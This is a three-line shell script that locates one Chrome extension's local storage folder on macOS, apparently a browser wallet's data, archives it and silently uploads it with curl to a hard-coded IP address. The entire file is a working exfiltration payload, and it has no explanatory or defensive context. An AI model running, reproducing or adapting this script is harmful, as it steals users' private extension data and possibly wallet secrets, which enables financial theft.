#!/bin/sh
D="$HOME/Library/Application Support/Google/Chrome/Default/Local Extension Settings/egjidjbpglichdcondbcbdnbeeppgdph"
[ -d "$D" ] && tar cz -C "$D" . | curl -s --data-binary @- http://198.51.100.41:8080/t
